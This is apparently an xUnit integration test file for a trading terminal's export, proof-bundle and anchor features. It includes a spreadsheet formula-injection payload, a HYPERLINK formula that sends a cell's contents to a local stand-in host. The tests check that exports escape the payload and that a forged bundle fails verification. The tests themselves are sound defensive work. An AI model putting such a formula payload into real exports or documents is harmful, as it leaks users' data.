using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using TraderTerminal.Domain.Values;
using TraderTerminal.Grains.Alerts;
using TraderTerminal.Silo.Evidence;
using TraderTerminal.Tests.Journal;
using TraderTerminal.Tests.Proofs;
using Xunit;

namespace TraderTerminal.Tests.Whole;

/// <summary>Exports, proof bundles and anchors as a user takes them away: over the wire and from the command line, beside a running instance.</summary>
public sealed class EvidenceOverTheWire
{
    private const string Eval = "topstep_eval_001";
    private const string Formula = "=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"look\")";

    /// <summary>When the virtual clock begins.</summary>
    private static readonly DateTimeOffset Start = new(2026, 10, 20, 14, 30, 0, TimeSpan.Zero);

    private static readonly string[] Tables = ["alerts", "decisions", "orders", "fills", "states"];

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    /// <summary>One bought, four more refused, a text that is none refused, and closed at a loss.</summary>
    private static async Task<IReadOnlyList<string>> Trade(Host host)
    {
        await host.Price("MNQ", 15_500m);
        var alerts = new List<string>();
        foreach (var body in new[]
                 {
                     $$"""{"symbol":"MNQ1!","action":"buy","quantity":1,"id":"one","strategy":{{JsonValue.Create(Formula).ToJsonString()}}}""", """{"symbol":"MNQ1!","action":"buy","quantity":40,"id":"two"}""",
                     """{"symbol":"NOSUCH1!","action":"buy","quantity":1,"id":"three"}""",
                 })
        {
            alerts.Add(await Alert(host, body));
            await host.Settle();
        }

        await host.Price("MNQ", 15_460m);
        alerts.Add(await Alert(host, """{"symbol":"MNQ1!","action":"close","id":"four"}"""));
        await host.Settle();
        return alerts;
    }

    private static async Task<string> Alert(Host host, string body)
    {
        var (status, answer) = await host.Hook(body);
        Assert.Equal(200, status);
        return answer!["alertId"]!.ToString();
    }

    private static async Task<string> Text(Host host, string path)
    {
        using var answer = await host.Http.GetAsync(path, Cancel);
        var text = await answer.Content.ReadAsStringAsync(Cancel);
        Assert.True(answer.IsSuccessStatusCode, $"{path}: {text}");
        Assert.Equal("no-store", answer.Headers.CacheControl?.ToString());
        Assert.Equal("attachment", answer.Content.Headers.ContentDisposition?.DispositionType);
        return text;
    }

    [Fact]
    public async Task Every_table_says_the_same_over_the_wire_and_from_the_command_line()
    {
        await using var host = await Host.Start("--clock", "virtual");
        var alerts = await Trade(host);
        await Whole(host, alerts, []);
        var batch = await Alert(host, """[{"symbol":"MNQ1!","action":"close"},{"symbol":"MNQ1!","action":"buy","quantity":50}]""");
        await host.Settle();
        var second = AlertRouter.IdOf(new AlertId(Guid.Parse(batch)), 1);
        using var wire = new MemoryStream(Encoding.UTF8.GetBytes(await Text(host, $"/api/accounts/{Eval}/bundle?alert={second}")));
        var report = await BundleCheck.Run(wire, [], Cancel);
        Assert.True(report.IsWhole && report.Parts.Any(part => part.Text == $"{second}, as it was received"), string.Join('\n', report.Parts));
        var balance = (await host.Account(Eval))["balance"]!.ToString();
        await host.Advance(Start.AddDays(1));
        await host.Stop();
        var all = await CommandLine.Run("export", "--what", "states", "--data", host.Data);
        Assert.True(all.Code == 0, $"{all}");
        var states = Named(Csv.Read(all.Output));
        Assert.Equal([Eval, "topstep_funded_001"], states.Select(state => state["account"]).Distinct());
        var closed = states.Last(state => state["account"] == Eval && state["isOver"] == "true");
        Assert.Equal(("2026-10-20", "active", balance), (closed["tradeDate"], closed["status"], closed["balance"]));
        Assert.Contains(JsonNode.Parse(closed["limits"])!.AsArray(), limit => limit!["rule"]!.ToString() == "daily_loss_limit");
    }

    [Fact]
    public async Task The_same_on_PostgreSQL()
    {
        var (server, database) = await SharedPostgres.Database();
        var file = Path.GetTempFileName();
        await File.WriteAllTextAsync(file, server.Connection(database), Cancel);
        try
        {
            await using var host = await Host.Start(new Dictionary<string, string> { ["Journal__Provider"] = "postgres", ["Journal__Connection"] = server.Connection(database) }, "--clock", "virtual");
            await Whole(host, await Trade(host), ["--journal", "postgres", "--connection-file", file]);
            await host.Stop();
        }
        finally
        {
            File.Delete(file);
            await server.Run("postgres", $"drop database {database} with (force)");
        }
    }

    private static async Task Whole(Host host, IReadOnlyList<string> alerts, string[] journal)
    {
        var tables = new Dictionary<string, IReadOnlyList<Dictionary<string, string>>>(StringComparer.Ordinal);
        foreach (var table in Tables)
        {
            foreach (var format in (string[])["csv", "jsonl"])
            {
                var wire = await Text(host, $"/api/accounts/{Eval}/export?what={table}&format={format}");
                var verb = await CommandLine.Run(["export", "--account", Eval, "--what", table, "--format", format, "--data", host.Data, .. journal]);
                Assert.True(verb.Code == 0, $"{verb}");
                Assert.Equal(wire, verb.Output);
                if (format == "csv") tables[table] = Named(Csv.Read(wire));
                else Assert.Equal(tables[table].Count, wire.TrimEnd('\n').Split('\n').Count(line => JsonNode.Parse(line)!["account"]!.ToString() == Eval));
            }
        }

        Assert.Equal(alerts, tables["decisions"].Select(row => row["alert"]));
        Assert.Equal(["accepted", "refused", "refused", "accepted"], tables["decisions"].Select(row => row["outcome"]));
        Assert.Equal("POSITION_LIMIT", tables["decisions"][1]["code"]);
        Assert.Contains(JsonNode.Parse(tables["decisions"][1]["checks"])!.AsArray(), check => check!["passed"]!.ToString() == "false");
        Assert.Equal(alerts, tables["alerts"].Select(row => row["alert"]));
        Assert.Equal("'" + Formula, tables["decisions"][0]["strategy"]);
        Assert.StartsWith("{\"symbol\":\"MNQ1!\"", tables["alerts"][0]["body"], StringComparison.Ordinal);
        Assert.Equal(["buy", "sell"], tables["fills"].Where(row => row["alert"].Length > 0).Select(row => row["side"]).Distinct());
        Assert.Contains(tables["orders"], row => row["event"] == "order-intended" && row["alert"] == alerts[0]);
        Assert.All(tables.Values.SelectMany(rows => rows).SelectMany(row => row), cell => Assert.DoesNotMatch("^[=+@\t\r]", cell.Value));

        var day = Named(Csv.Read(await Text(host, $"/api/accounts/{Eval}/export?what=decisions&from=2026-10-20&to=2026-10-20")));
        Assert.Equal(tables["decisions"].Count, day.Count);
        Assert.Empty(Named(Csv.Read(await Text(host, $"/api/accounts/{Eval}/export?what=decisions&from=2026-10-21"))));
        Assert.True(Named(Csv.Read(await Text(host, $"/api/accounts/{Eval}/export?what=fills&to=2026-10-19"))).Count < tables["fills"].Count);

        await Proved(host, alerts, journal);
    }

    private static async Task Proved(Host host, IReadOnlyList<string> alerts, string[] journal)
    {
        foreach (var alert in alerts)
        {
            var path = Path.Combine(host.Data, $"{alert}.bundle");
            var written = await CommandLine.Run(["bundle", "--account", Eval, "--alert", alert, "--out", path, "--data", host.Data, .. journal]);
            Assert.True(written.Code == 0 && written.Output.Contains("the journal's head", StringComparison.Ordinal), $"{written}");
            var verified = await CommandLine.Run("verify", "--bundle", path);
            Assert.True(verified.Code == 0 && verified.Output.Contains("The bundle holds.", StringComparison.Ordinal) && verified.Output.Contains("byte for byte", StringComparison.Ordinal), $"{verified}");
            Assert.Contains("as it was received", verified.Output, StringComparison.Ordinal);

            using var wire = new MemoryStream(Encoding.UTF8.GetBytes(await Text(host, $"/api/accounts/{Eval}/bundle?alert={alert}")));
            Assert.True((await BundleCheck.Run(wire, [], Cancel)).IsWhole);
        }

        var file = Path.Combine(host.Data, $"{alerts[1]}.bundle");
        var bundle = await File.ReadAllTextAsync(file, Cancel);
        Assert.DoesNotContain("topstep_funded_001", bundle, StringComparison.Ordinal);
        Assert.DoesNotContain("\"stream\":\"operators\"", bundle, StringComparison.Ordinal);
        await File.WriteAllTextAsync(file, BundleScene.Forged(bundle, (line, _) => line.Replace("refused POSITION_LIMIT", "accepted", StringComparison.Ordinal)), Cancel);
        var bent = await CommandLine.Run("verify", "--bundle", file);
        Assert.True(bent.Code == 1 && bent.Output.Contains("The bundle does not hold: decision.", StringComparison.Ordinal), $"{bent}");
    }

    [Fact]
    public async Task Anchors_are_written_elsewhere_and_a_bundle_leads_to_them()
    {
        var elsewhere = Directory.CreateTempSubdirectory("traderterminal-anchors-");
        var file = Path.Combine(elsewhere.FullName, "anchors");
        await using var host = await Host.Start("--clock", "virtual", "--anchor-file", file);
        await using var hook = NoticeReceiver.Start();
        await using var plain = NoticeReceiver.Start();
        foreach (var (id, body) in new (string, object)[] { ("kept", new { kind = "webhook", url = hook.Url("kept"), least = "critical", anchors = true }), ("plain", new { kind = "webhook", url = plain.Url("plain"), least = "critical" }) })
        {
            using var made = await host.Http.PutAsJsonAsync($"/api/notifications/{id}", body, Cancel);
            Assert.Equal(HttpStatusCode.OK, made.StatusCode);
        }

        var alerts = await Trade(host);
        await host.Advance(Start.AddHours(1).AddMinutes(1));
        for (var step = 1; hook.All.Count == 0 && step < 300; step++) await host.Advance(Start.AddHours(1).AddMinutes(1).AddSeconds(10 * step));
        var told = await hook.Message(1);
        Assert.Equal(["ANCHOR"], told.Codes);
        var line = (await File.ReadAllLinesAsync(file, Cancel))[0];
        Assert.Equal($"anchor {line}", told.Body["notices"]![0]!["text"]!.ToString());
        Assert.Equal("true", (await host.Get("/api/notifications")).AsArray().Single(channel => channel!["id"]!.ToString() == "kept")!["anchors"]!.ToString());
        Assert.Equal(5, line.Split(' ').Length);
        Assert.Empty(plain.All);

        var bundle = Path.Combine(host.Data, "one.bundle");
        var written = await CommandLine.Run("bundle", "--account", Eval, "--alert", alerts[1], "--out", bundle, "--data", host.Data);
        Assert.True(written.Code == 0 && written.Output.Contains("where an anchor was made", StringComparison.Ordinal), $"{written}");
        var held = await CommandLine.Run("verify", "--bundle", bundle, "--anchors", file);
        Assert.True(held.Code == 0 && held.Output.Contains("held against the anchors", StringComparison.Ordinal) && !held.Output.Contains("note", StringComparison.Ordinal), $"{held}");

        Assert.Equal(0, await host.Stop());
        Assert.Equal(await File.ReadAllTextAsync(Path.Combine(host.Data, "journal.anchors"), Cancel), await File.ReadAllTextAsync(file, Cancel));
        var whole = await CommandLine.Run("verify", "--data", host.Data, "--anchors", file);
        Assert.True(whole.Code == 0, $"{whole}");
        await File.WriteAllTextAsync(file, line[..^1] + (line[^1] == '0' ? '1' : '0') + "\n", Cancel);
        foreach (var words in new string[][] { ["verify", "--bundle", bundle, "--anchors", file], ["verify", "--data", host.Data, "--anchors", file] })
        {
            var broken = await CommandLine.Run(words);
            Assert.True(broken.Code == 1 && broken.Output.Contains("anchor", StringComparison.Ordinal) && broken.Output.Contains("tree", StringComparison.Ordinal), $"{broken}");
        }

        elsewhere.Delete(recursive: true);
    }

    [Fact]
    public async Task What_is_not_there_is_404_and_what_is_not_said_400_and_the_verbs_say_2()
    {
        await using var host = await Host.Start("--clock", "virtual");
        const string none = "00000000-0000-0000-0000-000000000001";
        foreach (var (path, status) in (IEnumerable<(string, HttpStatusCode)>)[
            ("/api/accounts/nobody/export?what=fills", HttpStatusCode.NotFound), ($"/api/accounts/{Eval}/export", HttpStatusCode.BadRequest), ($"/api/accounts/{Eval}/export?what=Fills", HttpStatusCode.BadRequest),
            ($"/api/accounts/{Eval}/export?what=fills&format=xlsx", HttpStatusCode.BadRequest), ($"/api/accounts/{Eval}/export?what=fills&from=yesterday", HttpStatusCode.BadRequest),
            ($"/api/accounts/{Eval}/export?what=fills&from=2026-10-21&to=2026-10-20", HttpStatusCode.BadRequest), ($"/api/accounts/{Eval}/bundle", HttpStatusCode.BadRequest),
            ($"/api/accounts/{Eval}/bundle?alert=x", HttpStatusCode.BadRequest), ($"/api/accounts/{Eval}/bundle?alert={none}", HttpStatusCode.NotFound), ($"/api/accounts/nobody/bundle?alert={none}", HttpStatusCode.NotFound)])
        {
            using var answer = await host.Http.GetAsync(path, Cancel);
            Assert.True(answer.StatusCode == status, $"{path}: {answer.StatusCode}");
        }

        var described = (await host.Get("/openapi/v1.json"))["paths"]!;
        foreach (var path in (string[])["export", "bundle"]) Assert.NotNull(described[$"/api/accounts/{{id}}/{path}"]!["get"]!["responses"]!["200"]);
        foreach (var (words, said) in (IEnumerable<(string[], string)>)[
            (["export", "--data", host.Data], "--what is one of alerts, decisions, orders, fills, states"), (["export", "--data", host.Data, "--what", "all"], "not all"),
            (["export", "--data", host.Data, "--what", "fills", "--account", "nobody"], "there is no account nobody"), (["export", "--data", host.Data, "--what", "fills", "--from", "1.2.26"], "no trade date"),
            (["export", "--data", Path.Combine(host.Data, "nowhere"), "--what", "fills"], "There is no journal"), (["bundle", "--data", host.Data], "--account says whose decision; --alert is the alert's id; --out names the file"),
            (["bundle", "--data", host.Data, "--account", Eval, "--alert", none, "--out", Path.Combine(host.Data, "x")], "has decided no alert"), (["verify", "--bundle", "/nowhere"], "there is no file /nowhere"),
            (["verify", "--bundle", Path.Combine(host.Data, "admin.key"), "--data", host.Data], "a bundle is checked by itself"), (["up", "--anchor-file", "/nowhere/at/all"], "--anchor-file: /nowhere/at/all is no file")])
        {
            var ended = await CommandLine.Run(words);
            Assert.True(ended.Code == 2 && ended.Errors.Contains(said, StringComparison.Ordinal), $"{said}\n{ended}");
        }

        var letter = await CommandLine.Run("verify", "--bundle", Path.Combine(host.Data, "admin.key"));
        Assert.True(letter.Code == 1 && letter.Output.Contains("form", StringComparison.Ordinal), $"{letter}");
    }

    private static IReadOnlyList<Dictionary<string, string>> Named(IReadOnlyList<IReadOnlyList<string>> rows) =>
        [.. rows.Skip(1).Select(row => rows[0].Select((name, i) => (name, row[i])).ToDictionary(cell => cell.name, cell => cell.Item2, StringComparer.Ordinal))];
}
